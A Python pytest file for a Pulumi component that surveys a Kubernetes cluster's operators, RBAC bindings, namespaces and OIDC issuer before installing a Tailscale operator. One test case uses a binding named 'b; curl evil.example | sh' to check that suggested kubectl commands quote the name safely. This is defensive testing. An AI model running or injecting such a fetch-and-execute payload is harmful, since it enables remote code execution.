"""What is in the cluster is reported before anything is made there; a cluster that does not answer stops the update."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import pulumi
import pytest

from components.cluster import definitions
from components.cluster import issuer as issuer_module
from components.cluster import survey as module
from components.cluster.issuer import DISCOVERY
from components.cluster.survey import API_ENDPOINTS, API_SERVICE, BINDINGS, CRDS, INGRESS_CLASSES, ROLES, Survey, survey
from components.manifests.delivery import rights
from components.settings.environment import EnvironmentSettings
from components.support_access import SupportAccess, SupportAccessArgs
from providers.cluster.look import Found
from providers.cluster.problems import ClusterUnknownError
from providers.tailnet.recorded_cluster import KUBE_SYSTEM
from tests.components.exposing import EGRESS, SIDECAR
from tests.components.registered import CLUSTER_UID, Answers, registered

Build = Callable[..., EnvironmentSettings]
OURS = {
    "app.kubernetes.io/managed-by": "support-access",
    "support-access.highflame.ai/customer": "acme",
    "support-access.highflame.ai/environment": "prod",
}
BY_US = {"meta.helm.sh/release-name": "tailscale-operator", "meta.helm.sh/release-namespace": "tailscale"}


ISSUER = "https://oidc.acme.example"


class Cluster:
    """A cluster with these objects, by the path of their list; a list holds whole objects."""

    def __init__(self, **lists: list[dict[str, Any]]) -> None:
        self.lists = lists

    def one(self, path: str) -> Found | None:
        place, _, name = path.rpartition("/")
        found = [each["metadata"] for each in self.lists.get(place, []) if each["metadata"]["name"] == name]
        if path == KUBE_SYSTEM:
            return {"name": "kube-system", "uid": CLUSTER_UID}
        return found[0] if found else None

    def all(self, path: str, labels: str = "") -> list[Found]:
        return [each["metadata"] for each in self.lists.get(path, [])]

    def whole(self, path: str, labels: str = "") -> list[dict[str, Any]]:
        return self.lists.get(path, [])

    def document(self, path: str) -> dict[str, Any] | None:
        return {"issuer": ISSUER} if path == DISCOVERY else None

    def create(self, path: str, body: Mapping[str, Any], *, dry_run: bool = False) -> dict[str, Any]:
        assert dry_run
        return dict(body)


def named(name: str, **more: Any) -> dict[str, Any]:
    metadata = {key: more.pop(key) for key in ("annotations", "labels", "namespace") if key in more}
    return {"metadata": {"name": name, **metadata}, **more}


def charts_binding(namespace: str) -> dict[str, Any]:
    subjects = [{"kind": "ServiceAccount", "name": "operator", "namespace": namespace}]
    return named("tailscale-operator", roleRef={"kind": "ClusterRole", "name": "tailscale-operator"}, subjects=subjects)


def ingress_class(**more: Any) -> dict[str, Any]:
    return named("tailscale", spec={"controller": "tailscale.com/ts-ingress"}, **more)


def problems(environment: Build, lists: dict[str, list[dict[str, Any]]], **bent: Any) -> tuple[str, ...]:
    return survey(Cluster(**lists), environment(**bent), ["ada@highflame.example"]).problems


STANDING = {
    "/api/v1/namespaces": [named("tailscale", labels=OURS), named("shop")],
    BINDINGS["ClusterRoleBinding"]: [charts_binding("tailscale")],
    CRDS: [named("connectors.tailscale.com", annotations=BY_US)],
    INGRESS_CLASSES: [ingress_class(annotations=BY_US), named("nginx", spec={"controller": "k8s.io/ingress-nginx"})],
}
"""A cluster where this stack's operator runs."""


def test_an_empty_cluster_and_our_own_installation_are_fine(environment: Build) -> None:
    assert problems(environment, {}) == ()
    assert problems(environment, STANDING) == ()


@pytest.mark.parametrize(
    ("theirs", "said"),
    [
        ({BINDINGS["ClusterRoleBinding"]: [charts_binding("vpn")]}, "an operator in namespace vpn"),
        ({BINDINGS["ClusterRoleBinding"]: [charts_binding("tailscale")]}, "an operator in namespace tailscale"),
        ({CRDS: [named("proxygroups.tailscale.com")]}, "definition proxygroups.tailscale.com, made by hand"),
        (
            {INGRESS_CLASSES: [ingress_class(annotations={**BY_US, "meta.helm.sh/release-name": "ts"})]},
            "IngressClass tailscale, of Helm release ts in namespace tailscale",
        ),
        ({INGRESS_CLASSES: [ingress_class(annotations=BY_US)]}, "of Helm release tailscale-operator"),
    ],
)
def test_an_operator_of_the_customers_is_told_with_what_to_do(
    environment: Build, theirs: dict[str, Any], said: str
) -> None:
    (found,) = problems(environment, theirs)
    assert said in found
    assert "helm uninstall" in found


def test_parts_that_are_still_being_deleted_are_no_operator_but_a_matter_of_waiting(environment: Build) -> None:
    going = named("connectors.tailscale.com", annotations=BY_US)
    going["metadata"]["deletionTimestamp"] = "2026-11-21T12:00:00Z"
    (found,) = problems(environment, {CRDS: [going]})
    assert "run again when they are gone" in found
    assert "helm uninstall" not in found
    (both,) = problems(environment, {CRDS: [going, named("proxygroups.tailscale.com")]})
    assert "helm uninstall" in both


def test_a_second_operator_beside_ours_is_told(environment: Build) -> None:
    both = {**STANDING, BINDINGS["ClusterRoleBinding"]: [charts_binding("tailscale"), charts_binding("vpn")]}
    (found,) = problems(environment, both)
    assert "an operator in namespace vpn" in found
    assert "an operator in namespace tailscale" not in found


def test_another_environments_namespace_is_not_ours(environment: Build) -> None:
    labels = {**OURS, "support-access.highflame.ai/environment": "dev"}
    other = {**STANDING, "/api/v1/namespaces": [named("tailscale", labels=labels)]}
    assert problems(environment, other)


def test_definitions_that_the_settings_leave_to_others_do_not_collide(environment: Build) -> None:
    theirs = {CRDS: [named("connectors.tailscale.com")]}
    assert problems(environment, theirs)
    assert problems(environment, theirs, operator={"chart": {"crds": False}}) == ()


def test_definitions_of_our_own_release_are_kept_before_they_are_left_to_others(environment: Build) -> None:
    """Helm deletes what the chart no longer renders, and with a definition all objects of its kind."""
    left = {"operator": {"chart": {"crds": False}}}
    (found,) = problems(environment, STANDING, **left)
    assert "Helm would delete them" in found
    assert "annotate customresourcedefinitions connectors.tailscale.com helm.sh/resource-policy=keep" in found
    notes = ({**BY_US, "helm.sh/resource-policy": "keep"}, {**BY_US, "meta.helm.sh/release-name": "ts"}, {})
    for others in notes:
        standing = {**STANDING, CRDS: [named("connectors.tailscale.com", annotations=others)]}
        assert problems(environment, standing, **left) == ()


def test_a_pipeline_that_may_not_see_definitions_still_sees_the_rest(
    environment: Build, monkeypatch: pytest.MonkeyPatch
) -> None:
    def hidden(self: Cluster, path: str, labels: str = "") -> list[Found]:
        raise ClusterUnknownError("403 Forbidden")

    told: list[str] = []
    monkeypatch.setattr(Cluster, "all", hidden)
    monkeypatch.setattr(definitions.pulumi.log, "warn", told.append)
    other = {**STANDING, BINDINGS["ClusterRoleBinding"]: [charts_binding("tailscale"), charts_binding("vpn")]}
    (found,) = problems(environment, other, operator={"chart": {"crds": False}})
    assert "an operator in namespace vpn" in found
    assert "403 Forbidden" in told[0]


def test_an_unbounded_role_is_told(environment: Build) -> None:
    role = named("auth", rules=[{"apiGroups": [""], "resources": ["groups"], "verbs": ["impersonate"]}])
    binding = {**charts_binding("tailscale"), "roleRef": {"kind": "ClusterRole", "name": "auth"}}
    standing = {**STANDING, ROLES["ClusterRole"]: [role], BINDINGS["ClusterRoleBinding"]: [binding]}
    (found,) = problems(environment, standing)
    assert "gives the operator ClusterRole auth" in found


def bound(name: str, kind: str, subject: str, **more: Any) -> dict[str, Any]:
    subjects = [{"kind": kind, "name": subject, "apiGroup": "rbac.authorization.k8s.io"}]
    return named(name, roleRef={"kind": "ClusterRole", "name": "cluster-admin"}, subjects=subjects, **more)


def notices(environment: Build, *bindings: dict[str, Any], **bent: Any) -> tuple[str, ...]:
    by_kind = {
        kind: [each for each in bindings if ("namespace" in each["metadata"]) is (kind == "RoleBinding")]
        for kind in BINDINGS
    }
    lists = {BINDINGS[kind]: found for kind, found in by_kind.items()}
    looked = survey(Cluster(**lists), environment(**bent), ["ada@highflame.example"])
    assert looked.problems == (), "what the customer gives by its own RBAC is the customer's to say"
    return looked.notices


@pytest.mark.parametrize(
    ("binding", "said"),
    [
        (
            bound("admins", "Group", "highflame-sre"),
            "ClusterRoleBinding admins gives group highflame-sre ClusterRole cluster-admin, and is not of this stack's",
        ),
        (
            bound("ada", "User", "ada@highflame.example", namespace="shop"),
            "RoleBinding ada in namespace shop gives user ada@highflame.example ClusterRole cluster-admin, and is not",
        ),
        (
            bound("support-access:cluster-admin:highflame-sre", "Group", "highflame-sre", labels=OURS),
            "`kubectl --context acme-prod delete clusterrolebinding support-access:cluster-admin:highflame-sre`",
        ),
        (
            bound("support-access:read-only:highflame-sre", "Group", "highflame-sre", labels=OURS, namespace="shop"),
            "delete rolebinding support-access:read-only:highflame-sre`",
        ),
        (
            bound("b; curl evil.example | sh", "Group", "highflame-sre", labels=OURS),
            "delete clusterrolebinding 'b; curl evil.example | sh'`",
        ),
    ],
)
def test_what_engineers_have_beside_their_declared_role_is_told(
    environment: Build, binding: dict[str, Any], said: str
) -> None:
    """A group is a name: one that the customer binds already, or an earlier life of the stack did, gives more."""
    (told,) = notices(environment, binding)
    assert said in told


def test_the_declared_bindings_and_those_of_others_are_no_news(environment: Build) -> None:
    declared = bound("support-access:read-only:highflame-sre", "Group", "highflame-sre", labels=OURS)
    others = [
        bound("theirs", "Group", "platform"),
        bound("bob", "User", "bob@acme.example"),
        bound("same-word", "User", "highflame-sre"),
        bound("other-word", "Group", "ada@highflame.example"),
        named("nobody", roleRef={"kind": "ClusterRole", "name": "view"}),
    ]
    assert notices(environment, declared, *others) == ()
    # The name alone does not make it this stack's.
    assert len(notices(environment, {**declared, "metadata": {"name": declared["metadata"]["name"]}})) == 1


def test_it_is_said_at_preview(environment: Build, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    told = tmp_path / "told"
    theirs = Cluster(**{BINDINGS["ClusterRoleBinding"]: [bound("admins", "Group", "highflame-sre")]})
    monkeypatch.setattr(module, "_connected", lambda cluster: theirs)
    monkeypatch.setattr(module.pulumi.log, "warn", lambda text, **_: told.open("a").write(f"{text}\n"))
    settings = environment()
    found = registered(SupportAccess, settings.names.name, SupportAccessArgs(settings=settings))
    assert "ClusterRoleBinding admins gives group highflame-sre" in told.read_text()
    assert "acme-prod-operator-release" in found.rows


def test_a_namespace_that_is_not_there_is_told_by_whose_it_is(environment: Build) -> None:
    access = [
        {"from": "group:a", "role": "view"},
        {"from": "group:b", "role": "namespaces", "namespaces": ["shop", "x"]},
    ]
    (found,) = problems(environment, STANDING, access=access)
    # Not by its place: an entry before it whose last day is over counts as not there.
    assert found.startswith("support-access:access of group:b names x, and the cluster has no such")


def test_the_namespace_of_what_an_exposure_makes_is_there(environment: Build) -> None:
    """The API server would say so too, when everything else is made already."""
    worker = {**SIDECAR, "namespace": "shop"}
    (found,) = problems(environment, STANDING, expose=[{**EGRESS, "namespace": "x"}, worker])
    assert found.startswith("support-access:expose of artifacts names x, and the cluster has no such namespace")


POLICY = {"networkPolicy": {"form": "portable"}}
SERVICE = named("kubernetes", spec={"clusterIPs": ["10.96.0.1"], "ports": [{"port": 443, "targetPort": 6443}]})
SLICE = named(
    "kubernetes", endpoints=[{"addresses": ["10.0.0.4"]}, {"addresses": ["10.0.0.5"]}], ports=[{"port": 6443}]
)
WEB = named(
    "web",
    spec={
        "selector": {"app": "web"},
        "ports": [{"port": 80, "targetPort": "http"}, {"port": 81, "protocol": "TCP", "targetPort": 8081}],
    },
)


def test_the_api_server_is_its_service_and_what_is_behind_it(environment: Build) -> None:
    lists = {**STANDING, API_SERVICE: [SERVICE, named("other", spec={})], API_ENDPOINTS: [SLICE]}
    found = survey(Cluster(**lists), environment(**POLICY), [])
    assert found.api_server == (("10.96.0.1", 443), ("10.0.0.4", 6443), ("10.0.0.5", 6443))
    assert survey(Cluster(**lists), environment(), []).api_server == ()


def test_an_exposed_service_is_the_pods_and_the_port_behind_it(environment: Build) -> None:
    exposure = {"kind": "ingress", "name": "web", "namespace": "shop", "service": "web", "from": "group:a"}
    lists = {**STANDING, "/api/v1/namespaces/shop/services": [WEB]}
    (found,) = survey(Cluster(**lists), environment(**POLICY, expose=[{**exposure, "port": 80}]), []).backends
    assert (found.namespace, found.selector, found.ports) == ("shop", {"app": "web"}, (("TCP", "http"),))


def test_cilium_is_asked_for_before_its_policy_is_made(environment: Build) -> None:
    chosen = {"networkPolicy": {"form": "cilium-sni"}}
    assert "has no Cilium" in " ".join(problems(environment, STANDING, **chosen))
    with_it = {**STANDING, CRDS: [*STANDING[CRDS], named("ciliumnetworkpolicies.cilium.io")]}
    assert problems(environment, with_it, **chosen) == ()


def test_another_issuer_than_the_clusters_own_is_told_with_both(environment: Build) -> None:
    """Tailscale compares to the letter, and says nothing when they differ."""
    assert problems(environment, {}, credential={"federation": {"issuer": ISSUER}}) == ()
    (told,) = problems(environment, {}, credential={"federation": {"issuer": f"{ISSUER}/"}})
    assert f'"{ISSUER}/", and the cluster\'s tokens name "{ISSUER}"' in told
    assert f"--path support-access:credential.federation.issuer {ISSUER}" in told


def test_a_cluster_that_does_not_tell_its_issuer_is_looked_at_all_the_same(
    environment: Build, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(self: Cluster, path: str) -> None:
        if path == DISCOVERY:
            raise ClusterUnknownError("answers with 403")

    said: list[str] = []
    monkeypatch.setattr(Cluster, "document", refuse)
    monkeypatch.setattr(issuer_module.pulumi.log, "warn", said.append)
    theirs = {CRDS: [named("connectors.tailscale.com")]}
    found = problems(environment, theirs, credential={"federation": {"issuer": "https://other.example"}})
    assert "made by hand" in found[0]
    assert len(found) == 1
    assert "answers with 403" in said[0]


class Silent(Cluster):
    def whole(self, path: str, labels: str = "") -> list[dict[str, Any]]:
        raise ClusterUnknownError("the API server does not answer")


def noting_registrations(monkeypatch: pytest.MonkeyPatch, file: Path) -> None:
    """Writes the name of every resource that is registered to `file`."""
    real = Answers.new_resource

    def noting(self: Answers, args: Any) -> tuple[str | None, dict[str, Any]]:
        with file.open("a") as lines:
            lines.write(f"{args.name}\n")
        return real(self, args)

    monkeypatch.setattr(Answers, "new_resource", noting)


def test_a_cluster_that_does_not_answer_stops_everything_but_what_narrows_access(
    environment: Build, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr(module, "_connected", lambda cluster: Silent())
    noting_registrations(monkeypatch, tmp_path / "order")
    settings = environment()
    with pytest.raises(Exception, match=r"acme-prod was not reached: the API server does not answer.*Fix: run again"):
        registered(SupportAccess, settings.names.name, SupportAccessArgs(settings=settings))
    lines = (tmp_path / "order").read_text().splitlines()
    assert "acme-prod-identity" in lines
    assert {"acme-prod-cluster", "acme-prod-operator-namespace", "acme-prod-access"} & {*lines} == set()


def test_a_preview_shows_what_a_change_grants_although_the_cluster_does_not_answer(
    environment: Build, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    def warn(text: str, *_: Any, **__: Any) -> None:
        with (tmp_path / "warnings").open("a") as lines:
            lines.write(f"{text}\n")

    monkeypatch.setattr(module, "_connected", lambda cluster: Silent())
    monkeypatch.setattr(pulumi.runtime, "is_dry_run", lambda: True)
    monkeypatch.setattr(pulumi.log, "warn", warn)
    settings = environment()
    found = registered(SupportAccess, settings.names.name, SupportAccessArgs(settings=settings))
    assert found.rows["acme-prod-access"].inputs["sections"]["grants"]
    assert found.rows["acme-prod-cluster"].inputs["uid"] == ""
    assert "was not checked: the API server does not answer" in (tmp_path / "warnings").read_text()


def test_a_suspended_stack_is_suspended_although_the_cluster_does_not_answer(
    environment: Build, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(module, "_connected", lambda cluster: Silent())
    settings = environment(suspended=True)
    found = registered(SupportAccess, settings.names.name, SupportAccessArgs(settings=settings))
    assert found.rows["acme-prod-identity"].inputs["declared"] == {"grants": []}
    assert found.rows["acme-prod-access"].inputs["sections"] == {"grants": []}
    # Empty, so that the provider keeps the cluster that is recorded.
    assert found.rows["acme-prod-cluster"].inputs["uid"] == ""


def test_the_cluster_is_recorded_before_anything_is_made_in_it(environment: Build) -> None:
    settings = environment()
    found = registered(SupportAccess, settings.names.name, SupportAccessArgs(settings=settings))
    assert found.rows["acme-prod-cluster"].inputs["uid"] == CLUSTER_UID
    assert "acme-prod-cluster" in found.names(found.rows["acme-prod-repair"].depends_on)
    assert "acme-prod-repair" in found.names(found.rows["acme-prod-operator-namespace"].depends_on)
    assert found.rows["acme-prod-cleanup"].inputs["clusterUid"] == CLUSTER_UID


def test_what_takes_access_away_is_registered_before_the_cluster_is_asked(
    environment: Build, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    order = tmp_path / "order"
    real = Answers.new_resource

    def note(line: str) -> None:
        with order.open("a") as file:
            file.write(f"{line}\n")

    def noting(self: Answers, args: Any) -> tuple[str | None, dict[str, Any]]:
        note(args.name)
        return real(self, args)

    def asking(cluster: object) -> Any:
        note("the cluster is asked")
        return Cluster()

    monkeypatch.setattr(Answers, "new_resource", noting)
    monkeypatch.setattr(module, "_connected", asking)
    settings = environment()
    registered(SupportAccess, settings.names.name, SupportAccessArgs(settings=settings))
    lines = order.read_text().splitlines()
    assert lines.index("acme-prod-identity") < lines.index("the cluster is asked")
    assert lines.index("the cluster is asked") < lines.index("acme-prod-operator-namespace")


def test_what_must_be_mended_fails_the_run(environment: Build, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(module, "_connected", lambda cluster: Cluster(**{CRDS: [named("connectors.tailscale.com")]}))
    settings = environment()
    with pytest.raises(Exception, match="not ready for this stack"):
        registered(SupportAccess, settings.names.name, SupportAccessArgs(settings=settings))


KINDS = {**ROLES, **BINDINGS}
LIMIT_ROLE = f"{ROLES['ClusterRole']}/support-access-impersonation"
LIMIT_BINDING = f"{BINDINGS['ClusterRoleBinding']}/support-access-impersonation"
BEFORE = "2026-11-01T09:00:00+00:00"


class Recorded(Cluster):
    """A cluster with the stack's record of these rights."""

    def __init__(self, rights: list[str], lists: Mapping[str, list[dict[str, Any]]]) -> None:
        super().__init__(**lists)
        self.data = {"rights": "\n".join(rights), "agreed": ""}

    def document(self, path: str) -> dict[str, Any] | None:
        return {"data": self.data} if path == module.RECORD else super().document(path)


def limits(environment: Build, *, role: list[Any] | None = None) -> dict[str, list[dict[str, Any]]]:
    """A cluster where this stack's operator runs, with all of its roles and bindings; role: the limit's rules."""
    lists: dict[str, list[dict[str, Any]]] = {
        ROLES["ClusterRole"]: [],
        BINDINGS["ClusterRoleBinding"]: [charts_binding("tailscale")],
    }
    for manifest in rights(environment(), ["ada@highflame.example"]):
        wide = {"rules": role} if role and manifest["metadata"]["name"] == "support-access-impersonation" else {}
        lists[KINDS[manifest["kind"]]].append({**manifest, **(wide if "rules" in manifest else {})})
    return {**STANDING, **lists}


def without(lists: dict[str, list[dict[str, Any]]], path: str) -> dict[str, list[dict[str, Any]]]:
    place, _, name = path.rpartition("/")
    return {**lists, place: [each for each in lists[place] if each["metadata"]["name"] != name]}


def test_a_limit_that_was_widened_is_repaired_and_stops_nothing(environment: Build) -> None:
    anybody = [{"apiGroups": [""], "resources": ["users", "groups"], "verbs": ["impersonate"]}]
    assert problems(environment, limits(environment, role=anybody)) == ()


@pytest.mark.parametrize("deleted", [LIMIT_ROLE, LIMIT_BINDING, f"{BINDINGS['ClusterRoleBinding']}/highflame-sre"])
def test_a_right_that_the_customer_deleted_is_not_made_again_unasked(environment: Build, deleted: str) -> None:
    paths = [
        f"{KINDS[each['kind']]}/{each['metadata']['name']}" for each in rights(environment(), ["ada@highflame.example"])
    ]
    lists = limits(environment)
    deleted = (
        deleted
        if deleted in paths
        else next(path for path in paths if path.startswith(BINDINGS["ClusterRoleBinding"]) and path != LIMIT_BINDING)
    )
    look = Recorded(paths, without(lists, deleted))

    def ask(**bent: Any) -> Survey:
        return survey(look, environment(**bent), ["ada@highflame.example"])

    (problem,) = ask().problems
    assert deleted.rpartition("/")[2] in problem
    assert "pulumi config set --stack acme-prod --path support-access:operator.reinstall" in problem
    assert "pulumi up -s acme-prod --refresh" in problem
    agreed = ask(operator={"reinstall": BEFORE})
    assert agreed.problems == ()
    assert "--refresh" in agreed.notices[-1]
    look.data["agreed"] = BEFORE  # the update that made it again has recorded that: it answers once
    assert len(ask(operator={"reinstall": BEFORE}).problems) == 1
    assert len(ask(operator={"reinstall": "2999-01-01T00:00:00Z"}).problems) == 1


def test_a_right_that_was_never_made_is_made(environment: Build) -> None:
    """An interrupted first update has no record yet; a new entry is not in it."""
    lists = without(without(limits(environment), LIMIT_BINDING), LIMIT_ROLE)
    assert problems(environment, lists) == ()
    assert survey(Recorded([], lists), environment(), ["ada@highflame.example"]).problems == ()


def test_parts_whose_release_is_gone_are_deleted_by_name_since_helm_does_not_find_them(environment: Build) -> None:
    class Orphaned(Cluster):
        def all(self, path: str, labels: str = "") -> list[Found]:
            return [] if path.endswith("/secrets") else super().all(path)

    lists = {
        CRDS: [named("connectors.tailscale.com", annotations=BY_US)],
        INGRESS_CLASSES: [ingress_class(annotations=BY_US)],
        ROLES["ClusterRole"]: [named("tailscale-operator", annotations=BY_US, rules=[])],
        BINDINGS["ClusterRoleBinding"]: [
            {**charts_binding("tailscale"), **named("tailscale-operator", annotations=BY_US)}
        ],
    }
    (problem,) = survey(Orphaned(**lists), environment(), []).problems
    context = environment().cluster.context  # type: ignore[union-attr]
    for kind, name in (
        ("customresourcedefinition", "connectors.tailscale.com"),
        ("ingressclass", "tailscale"),
        ("clusterrole", "tailscale-operator"),
        ("clusterrolebinding", "tailscale-operator"),
    ):
        assert f"\nkubectl --context {context} delete {kind} {name}\n" in problem
    assert "helm uninstall NAME" not in problem
